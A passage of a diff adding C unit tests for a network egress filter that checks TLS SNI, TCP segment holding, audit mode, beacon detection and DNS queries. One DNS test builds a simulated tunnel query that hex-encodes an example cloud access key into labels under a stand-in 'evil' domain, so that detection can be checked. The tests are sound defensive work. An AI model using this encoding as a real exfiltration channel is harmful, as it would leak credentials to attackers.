+	uint64_t a = seg(h, cl, sv, 40000, 443, 0, hello, n / 2, 1 * S);
+	engine_tick(h->e, 2 * S);
+	assert_int_equal(h->vcount[a], 0);
+	engine_tick(h->e, 3 * S + 1);
+	assert_int_equal(h->vlast[a], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_INCOMPLETE);
+	assert_string_equal(last_ev(h)->detail, "hold_timeout");
+	/* one-byte segments beyond hold_segments */
+	syn(h, cl, sv, 40001, 443, 4 * S);
+	uint64_t ids[4];
+	for (size_t i = 0; i < 4; i++)
+		ids[i] = seg(h, cl, sv, 40001, 443, i, hello + i, 1, 4 * S);
+	for (size_t i = 0; i < 4; i++)
+		assert_int_equal(h->vlast[ids[i]], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_INCOMPLETE);
+	assert_string_equal(last_ev(h)->detail, "hold_segments");
+	/* past hold_bytes */
+	syn(h, cl, sv, 40002, 443, 5 * S);
+	uint64_t far = seg(h, cl, sv, 40002, 443, 20000, "x", 1, 5 * S);
+	assert_int_equal(h->vlast[far], VERDICT_DENY);
+	assert_string_equal(last_ev(h)->detail, "hold_bytes");
+	teardown_h(h);
+}
+
+static void test_one_byte_segments_allowed(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
+	bind_name(h, "api.example.com", sv);
+	uint8_t hello[2048];
+	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
+	/* first 20 bytes one by one, the rest in one go: within 24 segments */
+	syn(h, cl, sv, 40000, 443, 1);
+	uint64_t ids[21];
+	for (size_t i = 0; i < 20; i++)
+		ids[i] = seg(h, cl, sv, 40000, 443, i, hello + i, 1, 2);
+	ids[20] = seg(h, cl, sv, 40000, 443, 20, hello + 20, n - 20, 3);
+	for (size_t i = 0; i < 21; i++)
+		assert_int_equal(h->vlast[ids[i]], VERDICT_ALLOW);
+	teardown_h(h);
+}
+
+static void test_tfo(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
+	bind_name(h, "api.example.com", sv);
+	uint8_t hello[2048], pkt[4096];
+	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
+	size_t len = build_tcp(pkt, cl, sv, 40000, 443, ISN, SYN, hello, n);
+	uint64_t a = feed(h, pkt, len, 1);
+	assert_int_equal(h->vcount[a], 1);
+	assert_int_equal(h->vlast[a], VERDICT_ALLOW);
+	/* SYN carrying a forbidden SNI: never PASSed */
+	n = build_hello(hello, "evil.example.net", false, 0, 1);
+	len = build_tcp(pkt, cl, sv, 40001, 443, ISN, SYN, hello, n);
+	uint64_t b = feed(h, pkt, len, 2);
+	assert_int_equal(h->vlast[b], VERDICT_DENY);
+	teardown_h(h);
+}
+
+static void verify_tweak(struct engine_config *c)
+{
+	c->unknown_ip = UNKNOWN_IP_VERIFY;
+}
+
+static void test_verify_mode(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(verify_tweak);
+	const char *cl = "192.0.2.1";
+	uint8_t hello[2048];
+	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
+	uint64_t s1 = syn(h, cl, "198.51.100.20", 40000, 443, 1);
+	assert_int_equal(h->vlast[s1], VERDICT_PASS);
+	uint64_t s2 = syn(h, cl, "198.51.100.21", 40001, 443, 1);
+	assert_int_equal(h->vlast[s2], VERDICT_PASS);
+	/* no name entry on this port at all */
+	uint64_t s3 = syn(h, cl, "198.51.100.21", 40002, 8443, 1);
+	assert_int_equal(h->vlast[s3], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_PORT_NOT_ALLOWED);
+	unsigned nev = h->nev;
+	uint64_t a = seg(h, cl, "198.51.100.20", 40000, 443, 0, hello, n, 2);
+	uint64_t b = seg(h, cl, "198.51.100.21", 40001, 443, 0, hello, n, 2);
+	assert_int_equal(h->vcount[a], 0);
+	assert_int_equal(h->vcount[b], 0);
+	assert_int_equal(h->nres, 1); /* coalesced */
+	assert_string_equal(h->resolves[0], "api.example.com");
+	/* more data while waiting is held as well */
+	uint64_t c = seg(h, cl, "198.51.100.20", 40000, 443, n, "GET", 3, 3);
+	assert_int_equal(h->vcount[c], 0);
+	struct dns_addr ans[2] = {{A("198.51.100.20"), 60}, {A("198.51.100.30"), 60}};
+	engine_resolved(h->e, "api.example.com", ans, 2, 4);
+	assert_int_equal(h->vlast[a], VERDICT_ALLOW);
+	assert_int_equal(h->vlast[c], VERDICT_ALLOW);
+	assert_int_equal(h->vlast[b], VERDICT_DENY);
+	assert_int_equal(h->nev, nev + 2);
+	/* one allow, one mismatch, in either order */
+	assert_int_equal(h->ev[nev].reason + h->ev[nev + 1].reason, REASON_SNI_IP_MISMATCH);
+	assert_int_equal(h->ev[nev].kind + h->ev[nev + 1].kind, EVENT_ALLOW + EVENT_DENY);
+	/* the answer was bound: a new flow to .30 is allowed without asking */
+	syn(h, cl, "198.51.100.30", 40003, 443, 5);
+	uint64_t d = seg(h, cl, "198.51.100.30", 40003, 443, 0, hello, n, 6);
+	assert_int_equal(h->vlast[d], VERDICT_ALLOW);
+	assert_int_equal(h->nres, 1);
+	/* resolution never answered: incomplete at the hold timeout */
+	n = build_hello(hello, "other.example.com", false, 0, 1);
+	syn(h, cl, "198.51.100.40", 40004, 443, 10 * S);
+	uint64_t e = seg(h, cl, "198.51.100.40", 40004, 443, 0, hello, n, 10 * S);
+	assert_int_equal(h->nres, 2);
+	engine_tick(h->e, 13 * S);
+	assert_int_equal(h->vlast[e], VERDICT_DENY);
+	assert_string_equal(last_ev(h)->detail, "resolve_timeout");
+	teardown_h(h);
+}
+
+static void audit_tweak(struct engine_config *c)
+{
+	c->enforce = false;
+}
+
+static void test_audit(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(audit_tweak);
+	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
+	uint64_t a = syn(h, cl, "198.51.100.99", 40000, 443, 1);
+	assert_int_equal(h->vlast[a], VERDICT_ALLOW);
+	assert_int_equal(last_ev(h)->kind, EVENT_DENY);
+	assert_false(last_ev(h)->enforced);
+	assert_int_equal(last_ev(h)->reason, REASON_IP_NOT_ALLOWED);
+	bind_name(h, "api.example.com", sv);
+	uint64_t s = syn(h, cl, sv, 40001, 443, 2);
+	assert_int_equal(h->vlast[s], VERDICT_PASS);
+	uint8_t hello[2048];
+	size_t n = build_hello(hello, "evil.example.net", false, 0, 1);
+	uint64_t b = seg(h, cl, sv, 40001, 443, 0, hello, n / 2, 3);
+	assert_int_equal(h->vlast[b], VERDICT_PASS); /* nothing waits in audit mode */
+	uint64_t c = seg(h, cl, sv, 40001, 443, n / 2, hello + n / 2, n - n / 2, 4);
+	assert_int_equal(h->vlast[c], VERDICT_ALLOW);
+	assert_int_equal(last_ev(h)->kind, EVENT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_NAME_NOT_ALLOWED);
+	assert_false(last_ev(h)->enforced);
+	struct engine_stats st;
+	engine_stats(h->e, &st);
+	assert_int_equal(st.held_packets, 0);
+	teardown_h(h);
+}
+
+static void test_aggregation_and_beacon(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	/* three denials of the same destination within 1 s, different source ports */
+	for (uint16_t i = 0; i < 3; i++)
+		syn(h, "192.0.2.1", "198.51.100.9", (uint16_t)(40000 + i), 443, 1 + i);
+	assert_int_equal(h->nev, 1);
+	assert_int_equal(h->ev[0].count, 1);
+	engine_tick(h->e, S / 2);
+	assert_int_equal(h->nev, 1);
+	engine_tick(h->e, 2 * S);
+	assert_int_equal(h->nev, 2);
+	assert_int_equal(h->ev[1].count, 2);
+	assert_int_equal(h->ev[1].reason, REASON_IP_NOT_ALLOWED);
+	/* spaced out: separate events; the third in 60 s... and more is a beacon */
+	syn(h, "192.0.2.1", "198.51.100.9", 41000, 443, 3 * S);
+	assert_int_equal(h->nev, 3);
+	assert_true(h->ev[2].bits & IND_BEACON);
+	teardown_h(h);
+}
+
+static void test_table_full(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	engine_free(h->e);
+	h->cfg.max_flows = 2;
+	struct engine_hooks hooks = {on_verdict, on_event, on_resolve, h};
+	h->e = engine_new(&h->cfg, h->p, h->b, &hooks);
+	bind_name(h, "api.example.com", "198.51.100.10");
+	assert_int_equal(h->vlast[syn(h, "192.0.2.1", "198.51.100.10", 1, 443, 1)], VERDICT_PASS);
+	assert_int_equal(h->vlast[syn(h, "192.0.2.1", "198.51.100.10", 2, 443, 1)], VERDICT_PASS);
+	uint64_t c = syn(h, "192.0.2.1", "198.51.100.10", 3, 443, 1);
+	assert_int_equal(h->vlast[c], VERDICT_DENY);
+	assert_string_equal(last_ev(h)->detail, "flow_table_full");
+	/* idle flows go away, then there is room again */
+	engine_tick(h->e, 31 * S + 1);
+	struct engine_stats st;
+	engine_stats(h->e, &st);
+	assert_int_equal(st.flows_tracked, 0);
+	uint64_t d = syn(h, "192.0.2.1", "198.51.100.10", 3, 443, 32 * S);
+	assert_int_equal(h->vlast[d], VERDICT_PASS);
+	/* engine_free drops held packets */
+	uint8_t hello[2048];
+	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
+	uint64_t e = seg(h, "192.0.2.1", "198.51.100.10", 3, 443, 0, hello, n / 2, 32 * S);
+	assert_int_equal(h->vcount[e], 0);
+	engine_free(h->e);
+	assert_int_equal(h->vlast[e], VERDICT_DENY);
+	h->e = NULL;
+	teardown_h(h);
+}
+
+/* ---- DNS ---- */
+
+static size_t build_query(uint8_t *out, uint16_t id, const char *name, uint16_t qtype,
+			  uint16_t qdcount)
+{
+	memset(out, 0, 12);
+	put16(out, id);
+	put16(out + 2, 0x0100);
+	put16(out + 4, qdcount);
+	size_t o = 12;
+	const char *p = name;
+	while (*p) {
+		const char *dot = strchr(p, '.');
+		size_t l = dot ? (size_t)(dot - p) : strlen(p);
+		out[o++] = (uint8_t)l;
+		memcpy(out + o, p, l);
+		o += l;
+		p += l;
+		if (*p == '.')
+			p++;
+	}
+	out[o++] = 0;
+	put16(out + o, qtype);
+	put16(out + o + 2, 1);
+	return o + 4;
+}
+
+static void test_dns_guard(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	struct addr cl = A("192.0.2.1");
+	uint8_t msg[512];
+	struct dns_query q;
+	size_t n = build_query(msg, 7, "api.example.com", DNS_TYPE_A, 1);
+	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 1), DNS_FORWARD);
+	assert_string_equal(q.qname, "api.example.com");
+	assert_int_equal(h->nev, 0);
+	/* answer: one A record, bound to the name */
+	uint8_t ans[512];
+	memcpy(ans, msg, n);
+	put16(ans + 2, 0x8180);
+	put16(ans + 6, 1);
+	size_t o = n;
+	put16(ans + o, 0xc00c);
+	put16(ans + o + 2, DNS_TYPE_A);
+	put16(ans + o + 4, 1);
+	put32(ans + o + 6, 300);
+	put16(ans + o + 10, 4);
+	ans[o + 12] = 198;
+	ans[o + 13] = 51;
+	ans[o + 14] = 100;
+	ans[o + 15] = 77;
+	o += 16;
+	engine_dns_answer(h->e, &q, ans, o, &cl, 2);
+	struct addr bound = A("198.51.100.77");
+	assert_true(bind_has(h->b, &bound, "api.example.com", 3));
+	assert_int_equal(last_ev(h)->kind, EVENT_DNS_ALLOW);
+	/* and a SYN to it now passes */
+	assert_int_equal(h->vlast[syn(h, "192.0.2.1", "198.51.100.77", 1, 443, 4)], VERDICT_PASS);
+
+	/* not allowed */
+	n = build_query(msg, 8, "evil.example.net", DNS_TYPE_A, 1);
+	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 5), DNS_REFUSE);
+	assert_int_equal(last_ev(h)->kind, EVENT_DNS_DENY);
+	assert_string_equal(last_ev(h)->qname, "evil.example.net");
+	assert_int_equal(last_ev(h)->reason, REASON_NAME_NOT_ALLOWED);
+	/* the apex of a wildcard is not covered */
+	n = build_query(msg, 9, "cdn.example.com", DNS_TYPE_A, 1);
+	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 6), DNS_REFUSE);
+	n = build_query(msg, 9, "x.cdn.example.com", DNS_TYPE_AAAA, 1);
+	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 6), DNS_FORWARD);
+	/* a name allowed on another port only is still resolvable */
+	n = build_query(msg, 9, "ssh.example.com", DNS_TYPE_A, 1);
+	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 6), DNS_FORWARD);
+	/* HTTPS records carry ECH configs */
+	n = build_query(msg, 10, "api.example.com", DNS_TYPE_HTTPS, 1);
+	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 7), DNS_EMPTY);
+	/* tunnel: hex-encoded key in labels, TXT */
+	char name[200], hex[64] = "";
+	const char *key = "AKIAIOSFODNN7EXAMPLE";
+	for (size_t i = 0; i < strlen(key); i++)
+		snprintf(hex + 2 * i, 3, "%02x", (unsigned char)key[i]);
+	snprintf(name, sizeof name, "%s.t.evil.example", hex);
+	n = build_query(msg, 11, name, DNS_TYPE_TXT, 1);
+	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 8), DNS_REFUSE);
+	assert_true(last_ev(h)->bits & IND_DNS_TUNNEL);
+	assert_true(last_ev(h)->bits & IND_CREDENTIAL);
+	assert_int_equal(last_ev(h)->sev, SEVERITY_CRITICAL);
+	/* many distinct names under one parent */
+	unsigned before = h->nev;
+	bool tunnel = false;
+	for (unsigned i = 0; i < 25; i++) {
+		snprintf(name, sizeof name, "n%u.many.example", i);
+		n = build_query(msg, (uint16_t)i, name, DNS_TYPE_A, 1);
+		assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 9), DNS_REFUSE);
+		if (i < 18)
+			assert_false(last_ev(h)->bits & IND_DNS_TUNNEL);
+		tunnel |= (last_ev(h)->bits & IND_DNS_TUNNEL) != 0;
+	}
+	assert_true(tunnel);
+	assert_int_equal(h->nev, before + 25);
+	/* malformed: two questions -> refused with the parser's reason */
+	n = build_query(msg, 12, "api.example.com", DNS_TYPE_A, 2);
+	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 10), DNS_REFUSE);
+	assert_int_equal(last_ev(h)->reason, REASON_MALFORMED);
+	assert_string_equal(last_ev(h)->detail, dns_err_name(DNS_QDCOUNT));
+	/* a response sent to us, and a short header: dropped */
+	put16(msg + 2, 0x8180);
+	put16(msg + 4, 1);
+	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 11), DNS_DROP);
+	assert_int_equal(engine_dns_query(h->e, msg, 5, &cl, 5353, &q, 11), DNS_DROP);
+	teardown_h(h);
+}
+
+static void test_set_policy(void **state)
+{
+	(void)state;
+	struct h *h = setup_with(NULL);
+	bind_name(h, "api.example.com", "198.51.100.10");
+	syn(h, "192.0.2.1", "198.51.100.10", 1, 443, 1);
+	/* reload with an empty policy: the undecided flow is decided on the new one */
+	struct policy *empty = policy_builder_finish(policy_builder_new());
+	engine_set_policy(h->e, empty, &h->cfg);
+	policy_free(h->p);
+	h->p = empty;
+	uint8_t hello[2048];
+	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
+	uint64_t a = seg(h, "192.0.2.1", "198.51.100.10", 1, 443, 0, hello, n, 2);
+	assert_int_equal(h->vlast[a], VERDICT_DENY);
+	assert_int_equal(last_ev(h)->reason, REASON_NAME_NOT_ALLOWED);
+	teardown_h(h);
 }
 
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(placeholder),
+		cmocka_unit_test(test_syn_range_and_repeats),
+		cmocka_unit_test(test_syn_ip_not_allowed),
+		cmocka_unit_test(test_tls_split_out_of_order),
+		cmocka_unit_test(test_tls_ipv6_and_wildcard),
+		cmocka_unit_test(test_tls_denials),
+		cmocka_unit_test(test_typosquat_imitates),
+		cmocka_unit_test(test_overlap_conflict),
+		cmocka_unit_test(test_tls_malformed),
+		cmocka_unit_test(test_http),
+		cmocka_unit_test(test_other_protocols),
+		cmocka_unit_test(test_packet_level),
+		cmocka_unit_test(test_udp),
+		cmocka_unit_test(test_quic_inspect_garbage),
+		cmocka_unit_test(test_hold_bounds),
+		cmocka_unit_test(test_one_byte_segments_allowed),
+		cmocka_unit_test(test_tfo),
+		cmocka_unit_test(test_verify_mode),
+		cmocka_unit_test(test_audit),
+		cmocka_unit_test(test_aggregation_and_beacon),
+		cmocka_unit_test(test_table_full),
+		cmocka_unit_test(test_dns_guard),
+		cmocka_unit_test(test_set_policy),
 	};
 	return cmocka_run_group_tests_name("engine", tests, NULL, NULL);
 }
